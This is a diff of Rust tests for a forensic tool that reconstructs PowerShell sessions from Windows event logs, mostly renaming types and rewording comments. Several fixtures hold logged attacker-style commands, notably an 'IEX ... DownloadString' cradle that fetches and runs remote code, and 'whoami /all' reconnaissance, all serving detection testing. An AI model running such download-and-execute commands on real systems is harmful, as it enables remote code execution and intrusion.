@@ -1,10 +1,10 @@
-//! Small cases of what engines log, each a handful of records of one session.
+//! Small inputs of what engines log, each a handful of records of one session.
 
 use chrono::{DateTime, TimeDelta};
 
 use crate::model::{Command, Completeness, Link, LoggedId, Record, Role, SessionIdx};
 use crate::normalise::testing::{self, event};
-use crate::reconstruct::Case;
+use crate::reconstruct::Reconstruction;
 use crate::reconstruct::index::{Events, ProcessIdx};
 use crate::reconstruct::testing::rebuilt;
 
@@ -14,7 +14,7 @@ const SID: &str = "S-1-5-21-1-1-1-1101";
 /// The session's host process.
 const HOST: u32 = 77;
 
-/// A record of a process at a time in milliseconds.
+/// Returns a record of a process at a time in milliseconds.
 fn on(millis: i64, channel: &str, id: u32, process: u32, data: &[(&str, &str)]) -> Record {
     let record = testing::record(channel, id, data);
     Record {
@@ -35,7 +35,7 @@ fn context(name: &str, kind: &str, (pipeline, sequence): (u32, u32)) -> String {
     )
 }
 
-/// The payload of commands, each with at most one parameter: `("Get-Item", "Path", "x")`.
+/// Returns the payload of commands, each with at most one parameter: `("Get-Item", "Path", "x")`.
 fn payload(commands: &[(&str, &str, &str)]) -> String {
     let lines = commands.iter().map(|(name, parameter, value)| match *parameter {
         "" => format!("CommandInvocation({name}): \"{name}\"\n"),
@@ -54,7 +54,7 @@ fn invoked(millis: i64, at: (u32, u32), commands: &[(&str, &str, &str)]) -> Reco
     on(millis, POWERSHELL, 4103, HOST, &data)
 }
 
-/// 800, which precedes its 4103 by one in number.
+/// 800, which has the number before its 4103.
 fn details(
     millis: i64,
     (pipeline, sequence): (u32, u32),
@@ -95,7 +95,7 @@ fn lifecycle(millis: i64, at: (u32, u32), name: &str, state: &str) -> Record {
     on(millis, "Microsoft-Windows-PowerShell/Analytic", 7937, HOST, &data)
 }
 
-/// 4688 below the host process.
+/// 4688 of a child of the host process.
 fn started(millis: i64, image: &str, line: &str) -> Record {
     let data = [
         ("NewProcessId", "0x500"),
@@ -107,7 +107,7 @@ fn started(millis: i64, image: &str, line: &str) -> Record {
     on(millis, "Security", 4688, 4, &data)
 }
 
-fn case(records: Vec<Record>) -> Case {
+fn rebuilt_from(records: Vec<Record>) -> Reconstruction {
     // A command before all others makes the session.
     let mut all = vec![invoked(0, (900, 900), &[("Get-Host", "", "")])];
     all.extend(records);
@@ -116,28 +116,28 @@ fn case(records: Vec<Record>) -> Case {
         record.record_id = number as u64;
         event(&record)
     });
-    let case = rebuilt(events.collect());
-    assert_eq!(case.sessions.len(), 1);
-    case
+    let reconstruction = rebuilt(events.collect());
+    assert_eq!(reconstruction.sessions.len(), 1);
+    reconstruction
 }
 
-/// The rows but the first one, which is of all sessions here.
-fn rows(case: &Case) -> &[Command] {
-    &case.commands.as_slice()[1..]
+/// Returns all rows but the first, which every test has.
+fn rows(reconstruction: &Reconstruction) -> &[Command] {
+    &reconstruction.commands.as_slice()[1..]
 }
 
-/// Role, text, what was invoked, and event ids of each row.
-fn told(case: &Case) -> Vec<(Role, &str, Vec<&str>, Vec<u32>)> {
-    let told = rows(case).iter().map(|row| {
-        let ids = row.events.iter().map(|&event| case.events[event].event_id).collect();
+/// Returns role, text, invocations and event ids of each row.
+fn told(reconstruction: &Reconstruction) -> Vec<(Role, &str, Vec<&str>, Vec<u32>)> {
+    let told = rows(reconstruction).iter().map(|row| {
+        let ids = row.events.iter().map(|&event| reconstruction.events[event].event_id).collect();
         let invocations = row.invocations.iter().map(String::as_str).collect();
         (row.role, row.text.as_str(), invocations, ids)
     });
     told.collect()
 }
 
-fn parents(case: &Case) -> Vec<Option<(usize, Link)>> {
-    let parents = rows(case).iter().map(|row| row.parent);
+fn parents(reconstruction: &Reconstruction) -> Vec<Option<(usize, Link)>> {
+    let parents = rows(reconstruction).iter().map(|row| row.parent);
     parents.map(|parent| parent.map(|(parent, link)| (parent.index() - 1, link))).collect()
 }
 
@@ -146,7 +146,7 @@ const OUT: (&str, &str, &str) = ("Out-Default", "", "");
 
 #[test]
 fn a_typed_line_is_one_row_with_all_its_records() {
-    let case = case(vec![
+    let reconstruction = rebuilt_from(vec![
         lifecycle(1005, (5, 20), "Get-Service", "Started"),
         script(1000, "b", "gsv winrm"),
         details(1010, (5, 21), &[SERVICE]),
@@ -160,8 +160,8 @@ fn a_typed_line_is_one_row_with_all_its_records() {
         vec!["Get-Service -Name \"WinRM\""],
         vec![4104, 4103, 800, 7937, 7937, 4103],
     );
-    assert_eq!(told(&case), [typed]);
-    let row = &rows(&case)[0];
+    assert_eq!(told(&reconstruction), [typed]);
+    let row = &rows(&reconstruction)[0];
     assert_eq!(row.runspace_id, LoggedId::parse("r"));
     assert_eq!((&*row.pipeline_id, row.link), ("5", Link::Text));
     assert_eq!(row.completeness, Completeness::Whole);
@@ -171,7 +171,7 @@ fn a_typed_line_is_one_row_with_all_its_records() {
 fn without_a_script_what_was_invoked_at_once_is_a_row_in_the_engines_order() {
     let date = ("Get-Date", "", "");
     let late = ("Get-Random", "", "");
-    let case = case(vec![
+    let reconstruction = rebuilt_from(vec![
         invoked(1001, (5, 23), &[SERVICE, OUT]),
         invoked(1000, (5, 21), &[date]),
         details(1002, (5, 23), &[SERVICE, OUT]),
@@ -181,37 +181,37 @@ fn without_a_script_what_was_invoked_at_once_is_a_row_in_the_engines_order() {
     ]);
     let first = "Get-Date; Get-Service -Name \"WinRM\" | Out-Default";
     assert_eq!(
-        told(&case),
+        told(&reconstruction),
         [
             (Role::Typed, first, vec![], vec![4103, 4103, 800]),
             (Role::Called, "Get-Random", vec![], vec![4103]),
             (Role::Typed, "Get-Item", vec![], vec![7937]),
         ]
     );
-    assert_eq!(parents(&case), [None, Some((0, Link::Runspace)), None]);
+    assert_eq!(parents(&reconstruction), [None, Some((0, Link::Runspace)), None]);
     let complete: Vec<String> =
-        rows(&case).iter().map(|row| row.completeness.to_string()).collect();
+        rows(&reconstruction).iter().map(|row| row.completeness.to_string()).collect();
     assert_eq!(complete, ["no script text", "no script text", "name only"]);
 }
 
 #[test]
 fn one_text_run_twice_and_a_name_much_later_are_not_merged() {
     let other = ("Get-Service", "Name", "Spooler");
-    let case = case(vec![
+    let reconstruction = rebuilt_from(vec![
         script(1000, "b", "Get-Service WinRM"),
         invoked(1010, (5, 21), &[SERVICE]),
-        // The engine logs a block once: this is another run, of whatever text.
+        // The engine logs a block once: this is another run, of an unknown text.
         invoked(2000, (6, 31), &[SERVICE]),
         script(3000, "c", "Get-Service WinRM"),
         invoked(63_000, (7, 41), &[other]),
         script(64_000, "d", "Get-Service WinRM"),
-        // A slow one: its parameter stands in the text.
+        // A slow one: its parameter is in the text.
         invoked(164_000, (8, 51), &[SERVICE]),
     ]);
     let text = "Get-Service WinRM";
     let bound = "Get-Service -Name \"WinRM\"";
     assert_eq!(
-        told(&case),
+        told(&reconstruction),
         [
             (Role::Typed, text, vec![bound], vec![4104, 4103]),
             (Role::Typed, bound, vec![], vec![4103]),
@@ -224,7 +224,7 @@ fn one_text_run_twice_and_a_name_much_later_are_not_merged() {
 
 #[test]
 fn fetched_code_is_called_by_the_line_that_runs_it() {
-    let case = case(vec![
+    let reconstruction = rebuilt_from(vec![
         script(1000, "a", "IEX (New-Object Net.WebClient).DownloadString('http://x')"),
         invoked(1010, (5, 21), &[("New-Object", "TypeName", "Net.WebClient")]),
         script(1100, "b", "Get-Service WinRM; Step-Two"),
@@ -233,18 +233,18 @@ fn fetched_code_is_called_by_the_line_that_runs_it() {
         invoked(1130, (5, 27), &[("Invoke-Expression", "Command", "Get-Service")]),
         script(9000, "c", "Get-Date"),
     ]);
-    let roles: Vec<Role> = rows(&case).iter().map(|row| row.role).collect();
+    let roles: Vec<Role> = rows(&reconstruction).iter().map(|row| row.role).collect();
     assert_eq!(roles, [Role::Typed, Role::Called, Role::Called, Role::Typed]);
     let by_time = Some((0, Link::Text));
-    assert_eq!(parents(&case), [None, by_time, by_time, None]);
-    assert_eq!(rows(&case)[0].invocations.len(), 2);
-    assert_eq!(rows(&case)[1].invocations, ["Get-Service -Name \"WinRM\""]);
+    assert_eq!(parents(&reconstruction), [None, by_time, by_time, None]);
+    assert_eq!(rows(&reconstruction)[0].invocations.len(), 2);
+    assert_eq!(rows(&reconstruction)[1].invocations, ["Get-Service -Name \"WinRM\""]);
 }
 
 #[test]
 fn runs_of_blocks_say_what_ran_what() {
-    // No text names anything.
-    let case = case(vec![
+    // No text names an invocation.
+    let reconstruction = rebuilt_from(vec![
         script(1000, "a", "Step-One"),
         run(1001, 4105, "a"),
         script(1002, "b", "Step-Two"),
@@ -256,7 +256,7 @@ fn runs_of_blocks_say_what_ran_what() {
         script(2000, "c", "Get-Date"),
     ]);
     assert_eq!(
-        told(&case),
+        told(&reconstruction),
         [
             (Role::Typed, "Step-One", vec!["Get-Date"], vec![4104, 4103, 4105, 4106]),
             (
@@ -268,14 +268,14 @@ fn runs_of_blocks_say_what_ran_what() {
             (Role::Typed, "Get-Date", vec![], vec![4104]),
         ]
     );
-    assert_eq!(parents(&case), [None, Some((0, Link::Runspace)), None]);
-    assert_eq!(rows(&case)[0].link, Link::Runspace);
+    assert_eq!(parents(&reconstruction), [None, Some((0, Link::Runspace)), None]);
+    assert_eq!(rows(&reconstruction)[0].link, Link::Runspace);
 }
 
 #[test]
 fn the_engines_own_is_marked_and_kept() {
     let names = "Out-Default, Exit-PSSession";
-    let case = case(vec![
+    let reconstruction = rebuilt_from(vec![
         invoked(1000, (2, 11), &[("Get-Command", "Name", names)]),
         script(1100, "p", "prompt"),
         invoked(1110, (3, 13), &[("prompt", "", "")]),
@@ -283,31 +283,32 @@ fn the_engines_own_is_marked_and_kept() {
         invoked(1130, (5, 17), &[("Get-Command", "Name", "evil")]),
         script(1200, "q", "function prompt { evil }"),
     ]);
-    let roles: Vec<Role> = rows(&case).iter().map(|row| row.role).collect();
+    let roles: Vec<Role> = rows(&reconstruction).iter().map(|row| row.role).collect();
     use Role::{Engine, Typed};
     assert_eq!(roles, [Engine, Engine, Engine, Typed, Typed]);
-    assert_eq!(rows(&case)[1].events.len(), 2);
+    assert_eq!(rows(&reconstruction)[1].events.len(), 2);
 }
 
 #[test]
 fn a_process_names_the_row_whose_text_started_it() {
     let whoami = r"C:\Windows\System32\whoami.exe";
-    let by_text = case(vec![
+    let by_text = rebuilt_from(vec![
         script(1000, "a", "whoami /all"),
         script(1500, "b", "hostname"),
         started(2000, whoami, r#""C:\Windows\system32\whoami.exe" /all"#),
     ]);
     assert_eq!(parents(&by_text), [None, None, Some((0, Link::Text))]);
-    // Long after, or with no text that names it, nothing is guessed.
+    // Long after, or without a text that names it, nothing is guessed.
     for (millis, image) in [(60_000, whoami), (2000, r"C:\Windows\System32\net.exe")] {
-        let guessed = case(vec![script(1000, "a", "whoami /all"), started(millis, image, image)]);
+        let guessed =
+            rebuilt_from(vec![script(1000, "a", "whoami /all"), started(millis, image, image)]);
         assert_eq!(parents(&guessed), [None, None]);
     }
 }
 
 #[test]
 fn the_engine_of_a_child_is_known_by_its_ids() {
-    // A host and a runspace of its own.
+    // The child has a host and a runspace of its own.
     let console = |text: &str| {
         let text = text.replace("ServerRemoteHost", "ConsoleHost");
         let text = text.replace("= h\n", "= c\n").replace("HostId=h\n", "HostId=c\n");
@@ -322,15 +323,15 @@ fn the_engine_of_a_child_is_known_by_its_ids() {
         Record { data, process_id, ..record }
     };
     let powershell = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
-    let case = case(vec![
+    let reconstruction = rebuilt_from(vec![
         started(1000, powershell, "powershell -File x.ps1"),
         child(details(2000, (1, 21), &[SERVICE])),
         child(invoked(2001, (1, 21), &[SERVICE])),
     ]);
-    assert_eq!(parents(&case), [None, Some((0, Link::Process))]);
-    let called = &told(&case)[1];
+    assert_eq!(parents(&reconstruction), [None, Some((0, Link::Process))]);
+    let called = &told(&reconstruction)[1];
     assert_eq!((called.0, &called.3[..]), (Role::Called, &[4103, 800][..]));
-    let evidence = &case.sessions[SessionIdx::new(0)].evidence;
+    let evidence = &reconstruction.sessions[SessionIdx::new(0)].evidence;
     assert!(evidence.iter().all(|evidence| evidence.link.is_key()));
 }
 
@@ -345,9 +346,9 @@ fn missing_parts_are_told() {
         ];
         on(1000, POWERSHELL, 4104, HOST, &data)
     };
-    let case = case(vec![part("1", "a"), part("3", "c")]);
-    assert_eq!(rows(&case)[0].completeness.to_string(), "parts missing: 2, 4 to 5 of 5");
-    let told = &case.sessions[SessionIdx::new(0)].command_completeness;
+    let reconstruction = rebuilt_from(vec![part("1", "a"), part("3", "c")]);
+    assert_eq!(rows(&reconstruction)[0].completeness.to_string(), "parts missing: 2, 4 to 5 of 5");
+    let told = &reconstruction.sessions[SessionIdx::new(0)].command_completeness;
     let expected = "script blocks (4104); invocations (4103); no process starts seen; \
                     script blocks with parts missing: 1";
     assert_eq!(told, expected);
@@ -356,14 +357,15 @@ fn missing_parts_are_told() {
 #[test]
 fn what_was_not_logged_is_told_by_what_the_host_logs_at_other_times() {
     let local = |millis| on(millis, POWERSHELL, 4104, 5, &[("ScriptBlockText", "local")]);
-    let told = |records| case(records).sessions[SessionIdx::new(0)].command_completeness.clone();
+    let told =
+        |records| rebuilt_from(records).sessions[SessionIdx::new(0)].command_completeness.clone();
     let ends = "; invocations (4103); no process starts seen";
     assert_eq!(told(vec![]), format!("no script block logging seen{ends}"));
     let at_other_times = "no script blocks, though the host logged some at other times";
     assert_eq!(told(vec![local(500_000)]), format!("{at_other_times}{ends}"));
     let around = "no script blocks, though the host logged some before and after";
     assert_eq!(told(vec![local(-500_000), local(500_000)]), format!("{around}{ends}"));
-    // What the engine warns of it logs without any policy.
+    // The engine logs a block with a warning without any policy.
     let warned = |process| Record {
         level: 3,
         ..on(1000, POWERSHELL, 4104, process, &[("ScriptBlockText", "x")])
@@ -393,21 +395,22 @@ fn a_log_full_of_alike_records_costs_no_square() {
         .collect();
     let every_third = |rest| events.indices().filter(move |index| index.index() % 3 == rest);
     let session_of = events.iter().map(|_| Some(SessionIdx::new(0))).collect();
-    let scripts = crate::reconstruct::assemble(&events, &session_of, &mut Default::default());
+    let scripts =
+        crate::reconstruct::assemble_script_blocks(&events, &session_of, &mut Default::default());
     let host: crate::model::HostName = "srv".into();
-    let shell = super::shell::Shell {
+    let activity = super::activity::EngineActivity {
         blocks: scripts.indices().collect(),
         records: every_third(2).collect(),
         runs: every_third(1).collect(),
     };
-    let place = super::row::Place {
+    let place = super::draft::RunPlace {
         session: SessionIdx::new(0),
         host: &host,
         process: Some(ProcessIdx::new(0)),
         depth: 0,
     };
     let start = std::time::Instant::now();
-    let rows = super::shell::rows(&events, &scripts, &place, &shell);
+    let rows = super::activity::command_drafts(&events, &scripts, &place, &activity);
     assert_eq!(rows.len(), 20_000);
     assert!(start.elapsed().as_secs() < 20, "{:?}", start.elapsed());
 }
